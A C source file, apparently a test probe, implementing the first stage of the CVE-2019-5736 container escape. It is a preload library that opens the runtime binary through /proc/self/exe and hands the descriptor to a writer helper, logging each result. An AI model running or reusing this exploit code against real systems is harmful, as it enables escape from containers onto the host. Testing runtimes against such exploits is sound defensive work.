/* The first half of the CVE-2019-5736 exploit, as a library the container's
 * /etc/ld.so.preload loads into every dynamic program. The only dynamic program
 * in the image is the runtime itself, started inside the container through a
 * script whose interpreter is #!/proc/self/exe. Open our own binary (the
 * runtime's, if it is exposed), hand the fd to exewriter in a new session, leave.
 * Appends "opened-exe DEV:INO" or "open-exe-failed ERRNO" to /out/result. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

__attribute__((constructor)) static void attack(void)
{
	int out = open("/out/result", O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0666);
	int fd = open("/proc/self/exe", O_RDONLY);
	struct stat st;
	if (fd < 0 || fstat(fd, &st) < 0) {
		dprintf(out, "open-exe-failed %s\n", strerrorname_np(errno));
		_exit(0);
	}
	dprintf(out, "opened-exe %lu:%lu\n", (unsigned long)st.st_dev, (unsigned long)st.st_ino);
	if (fork() == 0) {
		setsid();
		char num[16];
		snprintf(num, sizeof(num), "%d", fd);
		execl("/exewriter", "exewriter", num, (char *)NULL);
		dprintf(out, "write-failed exec-exewriter-%s\n", strerrorname_np(errno));
		_exit(1);
	}
	_exit(0);
}
